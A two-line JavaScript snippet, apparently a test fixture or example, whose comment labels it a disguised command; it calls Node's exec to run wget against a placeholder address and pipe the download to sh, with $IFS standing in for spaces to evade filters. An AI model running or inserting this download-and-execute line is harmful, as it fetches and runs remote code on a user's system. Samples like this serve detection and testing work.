// disguised-command: $IFS in place of spaces in a shell string
require('child_process').exec('wget${IFS}-qO-${IFS}http://203.0.113.7/e|sh');
